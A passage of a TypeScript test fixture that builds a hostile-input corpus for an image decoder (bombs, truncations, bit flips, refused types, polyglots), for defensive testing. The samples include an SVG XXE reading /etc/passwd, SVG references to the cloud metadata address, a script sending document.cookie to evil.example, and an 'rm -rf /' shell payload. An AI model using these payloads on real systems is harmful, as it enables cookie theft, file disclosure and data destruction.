/**
 * The hostile-input corpus (reliability.md G1), generated in memory so nothing hostile is checked in
 * and every input's construction is readable. Each input carries the outcome it must have:
 * 'ok' (decodes to the stated upright size/colour) or the AnimeMeError code it must be refused with.
 * Only seeded random damage (bit flips) is allowed more than one outcome, since whether a flipped bit
 * lands in pixels or in structure decides between "decodes" and "corrupt".
 *
 * Decisions recorded here:
 * - Animated WebP: accepted, first frame only (sharp reads page 0; imgproxy's MAX_ANIMATION_FRAMES
 *   is 1 too). A photo app has no use for frames 2…n, and refusing would turn away animated stickers
 *   that users do send. The declared canvas size still goes through the pixel limit.
 * - Animated GIF (and any GIF): refused as UNSUPPORTED_TYPE; the GIF loader is blocked (G4).
 * - Polyglots that start as a JPEG/PNG/WebP: accepted as that image; re-encoding drops the payload.
 * - Garbage or oversized metadata (EXIF, ICC, XMP, text chunks) never refuses a photo whose pixels
 *   are fine, and never reaches the output.
 */
import { readFileSync } from 'node:fs';
import { deflateSync, gzipSync } from 'node:zlib';
import type { ErrorCode } from '../../src/errors.js';
import { DEFAULT_MAX_BYTES } from '../../src/image/decode.js';
import { sharp } from '../../src/image/sharp-setup.js';
import { createRandom } from '../../scripts/fuzz.js';
import {
  ascii,
  blackPng,
  concat,
  insertJpegSegments,
  insertPngChunksAfterIhdr,
  jpegSegment,
  patchIspe,
  patchJpegSize,
  patchPng,
  patchWebpSize,
  pngChunk,
  riffChunk,
  solidBmp,
  webpFirstChunk,
} from './formats.js';
import { QUADRANTS, quadrantImage as quadrantImageOf, storedForOrientation } from '../image/orientation-fixtures.js';

export type Outcome = 'ok' | ErrorCode;
export type Rgb = readonly [number, number, number];

export interface HostileInput {
  /** Unique, e.g. "truncated/jpeg@0.25". */
  name: string;
  group: string;
  bytes: Uint8Array;
  /** The allowed outcomes (one, except for seeded random damage). */
  expect: readonly Outcome[];
  /** For 'ok': the upright size decodeImage must report (originalWidth × originalHeight). */
  size?: { width: number; height: number };
  /** For 'ok': colours at fractional upright positions, each within `tolerance` per channel. */
  colours?: { x: number; y: number; rgb: Rgb; tolerance: number }[];
  /** Byte strings the input carries (metadata, payloads) that must never appear in an output. */
  secrets?: string[];
  /** EXIF orientation the input carries (for the pipeline's upright check). */
  orientation?: number;
  /** Also run through createAnimeMe() with the analyser (a smaller, representative subset). */
  withAnalyser?: boolean;
}

const PHOTOS = new URL('../fixtures/photos/', import.meta.url);
export const photo = (name: string): Uint8Array => new Uint8Array(readFileSync(new URL(name, PHOTOS)));

const RED: Rgb = [200, 40, 40];
const rgbObject = (rgb: Rgb) => ({ r: rgb[0], g: rgb[1], b: rgb[2] });
const bytesOf = async (p: Promise<Buffer>): Promise<Uint8Array> => new Uint8Array(await p);
const solid = (width: number, height: number, rgb: Rgb = RED, alpha?: number) =>
  sharp({ create: { width, height, channels: alpha === undefined ? 3 : 4, background: { ...rgbObject(rgb), ...(alpha === undefined ? {} : { alpha }) } } });

// Upright reference for orientation inputs (landscape, four distinct quadrants).
export { QUADRANTS };
const QW = 96;
const QH = 64;
const quadrantImage = () => quadrantImageOf(QW, QH);
const storedFor = storedForOrientation;

const quadrantColours = (tolerance: number) => [
  { x: 0.25, y: 0.25, rgb: QUADRANTS.topLeft, tolerance },
  { x: 0.75, y: 0.25, rgb: QUADRANTS.topRight, tolerance },
  { x: 0.25, y: 0.75, rgb: QUADRANTS.bottomLeft, tolerance },
  { x: 0.75, y: 0.75, rgb: QUADRANTS.bottomRight, tolerance },
];

/** A plausible EXIF APP1 payload ("Exif\0\0" + a little-endian TIFF header) padded to `size`. */
function exifPayload(size: number, fill: (i: number) => number): Uint8Array {
  const out = new Uint8Array(size);
  out.set(ascii('Exif\0\0II*\0'), 0);
  new DataView(out.buffer).setUint32(10, 8, true);
  // IFD with an absurd entry count: parsers must bound it by the segment length.
  new DataView(out.buffer).setUint16(14, 0xffff, true);
  for (let i = 16; i < size; i++) out[i] = fill(i);
  return out;
}

/** Build the whole corpus. Takes a few seconds (it encodes a 52 MP progressive JPEG). */
export async function buildCorpus(): Promise<HostileInput[]> {
  const inputs: HostileInput[] = [];
  const add = (input: HostileInput) => {
    if (inputs.some((i) => i.name === input.name)) throw new Error(`duplicate corpus name ${input.name}`);
    inputs.push(input);
  };
  const random = createRandom(20240601);

  // Real photos and small synthetic bases in every accepted format.
  const hopper = photo('deb_mpl_grace_hopper.jpg'); // 512×600 baseline JPEG
  const chelsea = photo('deb_skimage_chelsea.png'); // 451×300 RGB PNG
  const coffee = photo('deb_skimage_coffee.png'); // 600×400 RGB PNG
  const photoSmall = sharp(coffee).resize(150, 100);
  const progressive = await bytesOf(photoSmall.clone().jpeg({ progressive: true, quality: 85 }).toBuffer());
  const webpLossy = await bytesOf(photoSmall.clone().webp({ quality: 80 }).toBuffer());
  const webpLossless = await bytesOf(photoSmall.clone().webp({ lossless: true }).toBuffer());
  const webpAlpha = await bytesOf(photoSmall.clone().ensureAlpha(0.6).webp({ quality: 80, alphaQuality: 80 }).toBuffer());
  const avif = await bytesOf(photoSmall.clone().avif({ quality: 50, effort: 0 }).toBuffer());
  const smallPng = await bytesOf(solid(32, 24).png().toBuffer());
  const smallJpeg = await bytesOf(solid(32, 24).jpeg().toBuffer());

  // ---------------------------------------------------------------- trivial and random data
  add({ name: 'trivial/empty', group: 'trivial', bytes: new Uint8Array(0), expect: ['EMPTY_INPUT'] });
  add({ name: 'trivial/1-byte-00', group: 'trivial', bytes: Uint8Array.of(0), expect: ['UNSUPPORTED_TYPE'] });
  add({ name: 'trivial/1-byte-ff', group: 'trivial', bytes: Uint8Array.of(0xff), expect: ['UNSUPPORTED_TYPE'] });
  add({ name: 'trivial/jpeg-soi-only', group: 'trivial', bytes: Uint8Array.of(0xff, 0xd8), expect: ['UNSUPPORTED_TYPE'] });
  add({ name: 'trivial/jpeg-magic-only', group: 'trivial', bytes: Uint8Array.of(0xff, 0xd8, 0xff), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'trivial/jpeg-soi-eoi', group: 'trivial', bytes: Uint8Array.of(0xff, 0xd8, 0xff, 0xd9), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'trivial/png-signature-only', group: 'trivial', bytes: smallPng.slice(0, 8), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'trivial/riff-webp-header-only', group: 'trivial', bytes: concat(ascii('RIFF'), new Uint8Array(4), ascii('WEBPVP8 ')), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'trivial/zeros-4k', group: 'trivial', bytes: new Uint8Array(4096), expect: ['UNSUPPORTED_TYPE'] });
  add({ name: 'trivial/ff-4k', group: 'trivial', bytes: new Uint8Array(4096).fill(0xff), expect: ['UNSUPPORTED_TYPE'] });
  for (const size of [2, 16, 100, 1000, 10_000, 100_000, 1_000_000]) {
    // First byte kept off 0xFF/0x89/'R'/'G'/... so random data cannot start with an accepted magic by chance.
    const bytes = Uint8Array.from({ length: size }, (_, i) => (i === 0 ? 0x01 : random.int(256)));
    add({ name: `random/${size}`, group: 'random', bytes, expect: ['UNSUPPORTED_TYPE'] });
  }
  // Random bodies behind real magic numbers reach the real loaders. For WebP the random bytes land in
  // the VP8 frame header's size fields, so the header check may refuse them as too big first.
  for (const [label, magic] of [['jpeg', Uint8Array.of(0xff, 0xd8, 0xff, 0xe0)], ['png', smallPng.subarray(0, 8)], ['webp', concat(ascii('RIFF'), Uint8Array.of(0, 1, 0, 0), ascii('WEBPVP8 '))], ['avif', concat(Uint8Array.of(0, 0, 0, 0x1c), ascii('ftypavif\0\0\0\0avifmif1miaf'))]] as const) {
    for (const size of [64, 5000]) {
      const body = Uint8Array.from({ length: size }, () => random.int(256));
      add({ name: `random/${label}-magic-${size}`, group: 'random', bytes: concat(magic, body), expect: label === 'webp' ? ['CORRUPT_IMAGE', 'TOO_MANY_PIXELS'] : ['CORRUPT_IMAGE'] });
    }
  }

  // ---------------------------------------------------------------- accepted references
  add({ name: 'ok/photo-jpeg', group: 'ok', bytes: hopper, expect: ['ok'], size: { width: 512, height: 600 }, withAnalyser: true });
  add({ name: 'ok/photo-png', group: 'ok', bytes: chelsea, expect: ['ok'], size: { width: 451, height: 300 }, withAnalyser: true });
  add({ name: 'ok/progressive-jpeg', group: 'ok', bytes: progressive, expect: ['ok'], size: { width: 150, height: 100 } });
  add({ name: 'ok/webp-lossy', group: 'ok', bytes: webpLossy, expect: ['ok'], size: { width: 150, height: 100 }, withAnalyser: true });
  add({ name: 'ok/webp-lossless', group: 'ok', bytes: webpLossless, expect: ['ok'], size: { width: 150, height: 100 } });
  add({ name: 'ok/avif', group: 'ok', bytes: avif, expect: ['ok'], size: { width: 150, height: 100 } });
  add({ name: 'ok/1x1-png', group: 'ok', bytes: await bytesOf(solid(1, 1).png().toBuffer()), expect: ['ok'], size: { width: 1, height: 1 }, colours: [{ x: 0, y: 0, rgb: RED, tolerance: 0 }], withAnalyser: true });
  add({ name: 'ok/1x1-jpeg', group: 'ok', bytes: await bytesOf(solid(1, 1).jpeg().toBuffer()), expect: ['ok'], size: { width: 1, height: 1 } });
  add({ name: 'ok/strip-4000x1-png', group: 'ok', bytes: await bytesOf(solid(4000, 1).png().toBuffer()), expect: ['ok'], size: { width: 4000, height: 1 }, withAnalyser: true });
  add({ name: 'ok/strip-1x4000-webp', group: 'ok', bytes: await bytesOf(solid(1, 4000).webp({ lossless: true }).toBuffer()), expect: ['ok'], size: { width: 1, height: 4000 } });

  // ---------------------------------------------------------------- truncated at many cut points
  const CUTS = [0.002, 0.01, 0.03, 0.06, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 0.99];
  for (const [label, bytes, minimum] of [
    ['jpeg', hopper, 4],
    ['progressive-jpeg', progressive, 4],
    ['png', chelsea, 9],
    ['webp-lossy', webpLossy, 16],
    ['webp-lossless', webpLossless, 16],
    ['avif', avif, 16],
  ] as const) {
    for (const fraction of CUTS) {
      const cut = Math.max(minimum, Math.floor(bytes.length * fraction));
      add({ name: `truncated/${label}@${fraction}`, group: 'truncated', bytes: bytes.slice(0, cut), expect: ['CORRUPT_IMAGE'] });
    }
  }
  // The gentlest harmful cuts: only the JPEG end marker or the PNG IEND chunk missing.
  add({ name: 'truncated/jpeg-no-eoi', group: 'truncated', bytes: hopper.slice(0, hopper.length - 2), expect: ['CORRUPT_IMAGE'] });
  // PNG is different: once the last IDAT is complete every pixel is there, and libpng stops reading,
  // so a missing IEND (or, below, a bad IEND CRC) loses nothing. Accepted.
  add({ name: 'truncated/png-no-iend', group: 'truncated', bytes: chelsea.slice(0, chelsea.length - 12), expect: ['ok'], size: { width: 451, height: 300 } });
  add({ name: 'truncated/png-mid-last-idat', group: 'truncated', bytes: chelsea.slice(0, chelsea.length - 12 - 4 - 4), expect: ['CORRUPT_IMAGE'] });

  // ---------------------------------------------------------------- seeded bit flips
  // Flips stay past the first 32 bytes (magic, IHDR/SOI+APP0, RIFF+VP8 header), so the file keeps its
  // type and the damage lands in tables and pixel data: decodes (damaged pixels) or CORRUPT_IMAGE.
  for (const [label, bytes] of [['jpeg', hopper], ['progressive-jpeg', progressive], ['png', chelsea], ['webp-lossy', webpLossy], ['webp-lossless', webpLossless]] as const) {
    for (let variant = 0; variant < 8; variant++) {
      const out = bytes.slice();
      const flips = 1 + variant * 4;
      for (let i = 0; i < flips; i++) out[32 + random.int(out.length - 32)] ^= 1 << random.int(8);
      add({ name: `bitflip/${label}#${variant}`, group: 'bitflip', bytes: out, expect: ['ok', 'CORRUPT_IMAGE'] });
    }
  }

  // ---------------------------------------------------------------- PNG CRC and checksum damage
  add({ name: 'crc/png-ihdr', group: 'crc', bytes: patchPng(chelsea, 'IHDR', () => {}, false), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'crc/png-idat', group: 'crc', bytes: patchPng(chelsea, 'IDAT', () => {}, false), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'crc/png-iend', group: 'crc', bytes: patchPng(chelsea, 'IEND', () => {}, false), expect: ['ok'], size: { width: 451, height: 300 } });
  // libpng discards an ancillary chunk with a bad CRC with a warning: the image itself is intact.
  const withText = insertPngChunksAfterIhdr(smallPng, pngChunk('tEXt', ascii('Comment\0hello')));
  add({ name: 'crc/png-text-chunk', group: 'crc', bytes: patchPng(withText, 'tEXt', () => {}, false), expect: ['ok'], size: { width: 32, height: 24 } });
  // IDAT data changed with its CRC fixed: the zlib Adler-32 or the filter bytes catch it instead.
  add({
    name: 'crc/png-idat-adler32',
    group: 'crc',
    bytes: patchPng(smallPng, 'IDAT', (_, data) => {
      data[data.length - 1] ^= 0xff;
    }),
    expect: ['CORRUPT_IMAGE'],
  });
  add({
    name: 'crc/png-idat-zlib-header',
    group: 'crc',
    bytes: patchPng(smallPng, 'IDAT', (_, data) => {
      data[0] = 0x00;
    }),
    expect: ['CORRUPT_IMAGE'],
  });

  // ---------------------------------------------------------------- header-declared bombs
  const bombs: [string, Uint8Array][] = [
    ['png-60000x60000', patchPng(smallPng, 'IHDR', (v) => (v.setUint32(0, 60000), v.setUint32(4, 60000)))],
    ['png-1e9-pixels', patchPng(smallPng, 'IHDR', (v) => (v.setUint32(0, 40000), v.setUint32(4, 25000)))],
    ['png-16384x16384', patchPng(smallPng, 'IHDR', (v) => (v.setUint32(0, 16384), v.setUint32(4, 16384)))],
    ['png-2^31-wide', patchPng(smallPng, 'IHDR', (v) => (v.setUint32(0, 0x7fffffff), v.setUint32(4, 1)))],
    ['png-wide-strip', patchPng(smallPng, 'IHDR', (v) => (v.setUint32(0, 20000), v.setUint32(4, 1)))],
    ['jpeg-60000x60000', patchJpegSize(smallJpeg, 60000, 60000)],
    ['jpeg-1e9-pixels', patchJpegSize(smallJpeg, 40000, 25000)],
    ['jpeg-65535x65535', patchJpegSize(hopper, 65535, 65535)],
    ['progressive-jpeg-60000x60000', patchJpegSize(progressive, 60000, 60000)],
    ['webp-vp8x-60000x60000', patchWebpSize(webpAlpha, 60000, 60000)],
    ['webp-vp8x-1e9-pixels', patchWebpSize(webpAlpha, 40000, 25000)],
    ['webp-vp8x-2^24', patchWebpSize(webpAlpha, 2 ** 24, 2 ** 24)],
    ['webp-vp8-16383x16383', patchWebpSize(webpLossy, 16383, 16383)],
    ['webp-vp8l-16384x16384', patchWebpSize(webpLossless, 16384, 16384)],
    ['avif-ispe-60000x60000', patchIspe(avif, 60000, 60000)],
    ['avif-ispe-2^31', patchIspe(avif, 0x80000040, 0x80000040)],
  ];
  if (webpFirstChunk(webpAlpha) !== 'VP8X' || webpFirstChunk(webpLossy) !== 'VP8 ' || webpFirstChunk(webpLossless) !== 'VP8L') {
    throw new Error('WebP layouts are not the ones the bomb patches expect');
  }
  for (const [label, bytes] of bombs) add({ name: `bomb/${label}`, group: 'bomb', bytes, expect: ['TOO_MANY_PIXELS'] });
  // A real bomb: a valid 16384×16384 1-bit PNG (~33 KB) that would be 805 MB as RGB.
  add({ name: 'bomb/real-png-16384x16384', group: 'bomb', bytes: blackPng(16384, 16384), expect: ['TOO_MANY_PIXELS'] });
  // A real, valid progressive JPEG above 50 MP (the libvips checklist's worst case for memory and time).
  add({
    name: 'bomb/real-progressive-jpeg-52mp',
    group: 'bomb',
    bytes: await bytesOf(solid(8200, 6400, [120, 80, 60]).jpeg({ progressive: true, quality: 70 }).toBuffer()),
    expect: ['TOO_MANY_PIXELS'],
  });
  // A real 1-bit PNG just under the limit (49 MP): accepted, and decoding it must stay in bounds.
  add({ name: 'bomb/real-png-7000x7000-under-limit', group: 'bomb', bytes: blackPng(7000, 7000), expect: ['ok'], size: { width: 7000, height: 7000 }, colours: [{ x: 0.5, y: 0.5, rgb: [0, 0, 0], tolerance: 0 }], withAnalyser: true });
  // Headers that claim more pixels than the data holds, under the limit. libjpeg treats running out
  // of entropy data before EOI as a warning and fills the rest with grey, so the JPEG is accepted
  // (damaged pixels, like a bit flip; the cost is bounded by the pixel limit). libpng and libwebp
  // call the missing rows an error.
  add({ name: 'bomb/jpeg-sof-4000x4000-with-512x600-data', group: 'bomb', bytes: patchJpegSize(hopper, 4000, 4000), expect: ['ok'], size: { width: 4000, height: 4000 } });
  add({ name: 'bomb/png-ihdr-4000x4000-with-451x300-data', group: 'bomb', bytes: patchPng(chelsea, 'IHDR', (v) => (v.setUint32(0, 4000), v.setUint32(4, 4000))), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'bomb/webp-vp8-4000x4000-with-150x100-data', group: 'bomb', bytes: patchWebpSize(webpLossy, 4000, 4000), expect: ['CORRUPT_IMAGE'] });
  // Input bytes over the default maxBytes: refused before any parsing.
  add({ name: 'bomb/over-max-bytes', group: 'bomb', bytes: concat(smallJpeg, new Uint8Array(DEFAULT_MAX_BYTES + 1 - smallJpeg.length)), expect: ['TOO_LARGE'] });

  // ---------------------------------------------------------------- zero dimensions
  add({ name: 'zero/png-width-0', group: 'zero', bytes: patchPng(smallPng, 'IHDR', (v) => v.setUint32(0, 0)), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'zero/png-height-0', group: 'zero', bytes: patchPng(smallPng, 'IHDR', (v) => v.setUint32(4, 0)), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'zero/jpeg-width-0', group: 'zero', bytes: patchJpegSize(smallJpeg, 0, 24), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'zero/jpeg-height-0', group: 'zero', bytes: patchJpegSize(smallJpeg, 32, 0), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'zero/webp-vp8-0x0', group: 'zero', bytes: patchWebpSize(webpLossy, 0, 0), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'zero/avif-ispe-0x0', group: 'zero', bytes: patchIspe(avif, 0, 0), expect: ['CORRUPT_IMAGE'] });

  // ---------------------------------------------------------------- colour layouts (all accepted)
  const layouts: [string, Promise<Buffer>, Rgb, number][] = [
    ['png-16bit-rgb', solid(16, 16).toColourspace('rgb16').png().toBuffer(), RED, 3],
    ['png-16bit-rgba', solid(16, 16, RED, 1).toColourspace('rgb16').png().toBuffer(), RED, 3],
    ['png-16bit-grey', solid(16, 16, [90, 90, 90]).toColourspace('grey16').png().toBuffer(), [90, 90, 90], 3],
    ['png-grey', solid(16, 16, [90, 90, 90]).toColourspace('b-w').png().toBuffer(), [90, 90, 90], 2],
    ['png-grey-alpha', solid(16, 16, [0, 0, 0], 0).toColourspace('b-w').png().toBuffer(), [255, 255, 255], 2],
    ['png-palette', solid(16, 16).png({ palette: true }).toBuffer(), RED, 3],
    ['png-palette-2-colours', solid(16, 16).png({ palette: true, colours: 2 }).toBuffer(), RED, 3],
    ['png-interlaced', solid(16, 16).png({ progressive: true }).toBuffer(), RED, 0],
    ['png-rgba-transparent', solid(16, 16, [0, 0, 0], 0).png().toBuffer(), [255, 255, 255], 0],
    ['png-rgba-half', solid(16, 16, [255, 0, 0], 0.5).png().toBuffer(), [255, 127, 127], 2],
    ['jpeg-cmyk', solid(16, 16).toColourspace('cmyk').jpeg({ quality: 95 }).toBuffer(), RED, 45],
    ['jpeg-grey', solid(16, 16, [90, 90, 90]).toColourspace('b-w').jpeg().toBuffer(), [90, 90, 90], 3],
    ['jpeg-444', solid(16, 16).jpeg({ chromaSubsampling: '4:4:4', quality: 100 }).toBuffer(), RED, 3],
    ['webp-rgba-transparent', solid(16, 16, [0, 0, 0], 0).webp({ lossless: true }).toBuffer(), [255, 255, 255], 0],
    ['webp-rgba-half-lossy', solid(16, 16, [255, 0, 0], 0.5).webp({ quality: 90 }).toBuffer(), [255, 127, 127], 12],
    ['avif-alpha', solid(16, 16, [0, 0, 0], 0).avif({ effort: 0 }).toBuffer(), [255, 255, 255], 3],
    ['avif-12bit', solid(16, 16).avif({ effort: 0, bitdepth: 12, quality: 90 }).toBuffer(), RED, 12],
  ];
  for (const [label, make, rgb, tolerance] of layouts) {
    const withAnalyser = label === 'jpeg-cmyk' || label === 'png-16bit-rgba' || label === 'avif-alpha';
    add({ name: `layout/${label}`, group: 'layout', bytes: await bytesOf(make), expect: ['ok'], size: { width: 16, height: 16 }, colours: [{ x: 0.5, y: 0.5, rgb, tolerance }], withAnalyser });
  }

  // ---------------------------------------------------------------- animation
  const frame = (rgb: Rgb) => solid(40, 30, rgb).png().toBuffer();
  const frames = await Promise.all([frame([220, 30, 30]), frame([30, 40, 220]), frame([30, 200, 40])]);
  const animatedWebp = await bytesOf(sharp(frames, { join: { animated: true } }).webp({ lossless: true, loop: 0, delay: [100, 100, 100] }).toBuffer());
  add({ name: 'animated/webp-first-frame', group: 'animated', bytes: animatedWebp, expect: ['ok'], size: { width: 40, height: 30 }, colours: [{ x: 0.5, y: 0.5, rgb: [220, 30, 30], tolerance: 0 }], withAnalyser: true });
  const manyFrames = await Promise.all(Array.from({ length: 60 }, (_, i) => frame([i * 4, 100, 200 - i * 3])));
  add({ name: 'animated/webp-60-frames', group: 'animated', bytes: await bytesOf(sharp(manyFrames, { join: { animated: true } }).webp({ quality: 50 }).toBuffer()), expect: ['ok'], size: { width: 40, height: 30 }, withAnalyser: true });
  add({ name: 'animated/webp-canvas-bomb', group: 'animated', bytes: patchWebpSize(animatedWebp, 60000, 60000), expect: ['TOO_MANY_PIXELS'] });
  add({ name: 'animated/webp-truncated', group: 'animated', bytes: animatedWebp.slice(0, Math.floor(animatedWebp.length * 0.7)), expect: ['CORRUPT_IMAGE'] });
  add({ name: 'animated/gif', group: 'animated', bytes: await bytesOf(sharp(frames, { join: { animated: true } }).gif().toBuffer()), expect: ['UNSUPPORTED_TYPE'] });

  // ---------------------------------------------------------------- types we refuse
  const svgScript = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
  const svgExternal =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">' +
    '<image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/><image href="file:///etc/passwd"/>' +
    '<use href="https://evil.example/sprite.svg#x"/></svg>';
  const svgXxe = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>';
  const refused: [string, Uint8Array][] = [
    ['svg-script', ascii(svgScript)],
    ['svg-external-refs', ascii(svgExternal)],
    ['svg-xxe', ascii(svgXxe)],
    ['svg-bom-comment', concat(Uint8Array.of(0xef, 0xbb, 0xbf), ascii(`<!-- a photo -->\n  ${svgScript}`))],
    ['svgz', new Uint8Array(gzipSync(ascii(svgScript)))],
    ['gif-static', await bytesOf(solid(8, 8).gif().toBuffer())],
    ['tiff-le', await bytesOf(solid(8, 8).tiff().toBuffer())],
    ['tiff-be', concat(ascii('MM\0*'), Uint8Array.of(0, 0, 0, 8), new Uint8Array(64))],
    ['bigtiff', concat(ascii('II+\0'), Uint8Array.of(8, 0, 0, 0), new Uint8Array(64))],
    ['bmp', solidBmp(8, 8, RED)],
    ['bmp-invalid-bpp', (() => {
      const bmp = solidBmp(8, 8, RED);
      new DataView(bmp.buffer).setUint16(28, 40, true); // imgproxy's bmp-invalid-bpp regression
      return bmp;
    })()],
    ['heic-brand', concat(Uint8Array.of(0, 0, 0, 24), ascii('ftypheic\0\0\0\0mif1heic'), new Uint8Array(64))],
    ['heix-brand', concat(Uint8Array.of(0, 0, 0, 24), ascii('ftypheix\0\0\0\0mif1heix'), new Uint8Array(64))],
    ['mif1-with-heic-compatible', concat(Uint8Array.of(0, 0, 0, 28), ascii('ftypmif1\0\0\0\0mif1avifheic'), new Uint8Array(64))],
    ['heif-mif1-only', concat(Uint8Array.of(0, 0, 0, 20), ascii('ftypmif1\0\0\0\0mif1'), new Uint8Array(64))],
    ['mp4', concat(Uint8Array.of(0, 0, 0, 24), ascii('ftypisom\0\0\x02\0isomiso2'), new Uint8Array(64))],
    ['pdf', ascii('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')],
    ['postscript', ascii('%!PS-Adobe-3.0\n/Times findfont 12 scalefont setfont\nshowpage\n')],
    ['psd', concat(ascii('8BPS'), Uint8Array.of(0, 1), new Uint8Array(6), Uint8Array.of(0, 3, 0, 0, 0, 8, 0, 0, 0, 8, 0, 8, 0, 3), new Uint8Array(64))],
    ['ico', concat(Uint8Array.of(0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0), new Uint8Array(64))],
    ['jpeg2000', concat(Uint8Array.of(0, 0, 0, 0x0c, 0x6a, 0x50, 0x20, 0x20, 0x0d, 0x0a, 0x87, 0x0a), new Uint8Array(64))],
    ['jpeg-xl-codestream', concat(Uint8Array.of(0xff, 0x0a), new Uint8Array(64).fill(0x11))],
    ['jpeg-xl-container', concat(Uint8Array.of(0, 0, 0, 0x0c, 0x4a, 0x58, 0x4c, 0x20, 0x0d, 0x0a, 0x87, 0x0a), new Uint8Array(64))],
    ['ppm', concat(ascii('P6\n8 8\n255\n'), new Uint8Array(8 * 8 * 3).fill(200))],
    ['vips-native', concat(Uint8Array.of(0x08, 0xf2, 0xa6, 0xb6), new Uint8Array(64))],
    ['qoi', concat(ascii('qoif'), Uint8Array.of(0, 0, 0, 8, 0, 0, 0, 8, 3, 0), new Uint8Array(64))],
    ['zip', concat(ascii('PK\x03\x04'), new Uint8Array(64))],
    ['gzip', new Uint8Array(gzipSync(ascii('not an image')))],
    ['elf', concat(ascii('\x7fELF'), Uint8Array.of(2, 1, 1), new Uint8Array(64))],
    ['html', ascii('<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>')],
    ['text-named-jpg', ascii('IMG_2024.jpg\nThis is a text file with a .jpg name.\n')],
    ['json', ascii('{"image": "data:image/jpeg;base64,/9j/4AAQ"}')],
    ['wav', concat(ascii('RIFF'), Uint8Array.of(36, 0, 0, 0), ascii('WAVEfmt '), new Uint8Array(64))],
    ['html-then-jpeg', concat(ascii('<html><script>alert(1)</script></html>\n'), hopper)],
    ['zip-containing-png', concat(ascii('PK\x03\x04'), new Uint8Array(26), chelsea)],
  ];
  for (const [label, bytes] of refused) add({ name: `type/${label}`, group: 'type', bytes, expect: ['UNSUPPORTED_TYPE'] });

  // ---------------------------------------------------------------- polyglots (accepted as the image; payload dropped)
  const html = '<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>';
  add({ name: 'polyglot/jpeg+html-appended', group: 'polyglot', bytes: concat(hopper, ascii(html)), expect: ['ok'], size: { width: 512, height: 600 }, secrets: ['<script>'] });
  add({ name: 'polyglot/jpeg-html-in-comment', group: 'polyglot', bytes: insertJpegSegments(smallJpeg, jpegSegment(0xfe, ascii(html))), expect: ['ok'], size: { width: 32, height: 24 }, secrets: ['<script>'], withAnalyser: true });
  const zip = concat(ascii('PK\x03\x04'), new Uint8Array(22), ascii('payload.sh#!/bin/sh\nrm -rf /\n'), ascii('PK\x05\x06'), new Uint8Array(18));
  add({ name: 'polyglot/png+zip-appended', group: 'polyglot', bytes: concat(chelsea, zip), expect: ['ok'], size: { width: 451, height: 300 }, secrets: ['PK\x03\x04', 'rm -rf'], withAnalyser: true });
  add({ name: 'polyglot/png-html-in-text-chunk', group: 'polyglot', bytes: insertPngChunksAfterIhdr(smallPng, pngChunk('tEXt', ascii(`Comment\0${html}`))), expect: ['ok'], size: { width: 32, height: 24 }, secrets: ['<script>'] });
  add({ name: 'polyglot/webp+html-after-riff', group: 'polyglot', bytes: concat(webpLossy, ascii(html)), expect: ['ok'], size: { width: 150, height: 100 }, secrets: ['<script>'] });
  add({ name: 'polyglot/jpeg+pdf-appended', group: 'polyglot', bytes: concat(smallJpeg, ascii('%PDF-1.4\n1 0 obj\n<< /JS (app.alert(1)) >>\nendobj\n')), expect: ['ok'], size: { width: 32, height: 24 }, secrets: ['%PDF', 'app.alert'] });

  // ---------------------------------------------------------------- metadata: real, garbage, huge
  const secretXmp = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>SECRET-XMP-AUTHOR</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>';
  const exif = {
    IFD0: { ImageDescription: 'SECRET-EXIF-DESCRIPTION', Make: 'SecretCam', Artist: 'SECRET-ARTIST' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' },
  };
  const metaSecrets = ['SECRET-EXIF-DESCRIPTION', 'SECRET-ARTIST', 'SecretCam', 'SECRET-XMP-AUTHOR', 'Exif\0\0', 'ICC_PROFILE', 'http://ns.adobe.com/xap/1.0/'];
  const photoMeta = sharp(coffee).resize(120, 80);
  for (const [label, make] of [
    ['jpeg', () => photoMeta.clone().jpeg()],
    ['png', () => photoMeta.clone().png()],
    ['webp', () => photoMeta.clone().webp()],
  ] as const) {
    add({
      name: `metadata/${label}-exif-gps-xmp-icc`,
      group: 'metadata',
      bytes: await bytesOf(make().withExif(exif).withXmp(secretXmp).withIccProfile('p3').toBuffer()),
      expect: ['ok'],
      size: { width: 120, height: 80 },
      secrets: metaSecrets,
      withAnalyser: label === 'jpeg',
    });
  }
  // IPTC (Photoshop APP13 "8BIM" resource 0x0404) with a caption, which sharp cannot write for us.
  const iptc = concat(ascii('Photoshop 3.0\0'), ascii('8BIM'), Uint8Array.of(0x04, 0x04, 0, 0), Uint8Array.of(0, 0, 0, 30), Uint8Array.of(0x1c, 0x02, 0x78, 0, 25), ascii('SECRET-IPTC-CAPTION-HERE!'), Uint8Array.of(0));
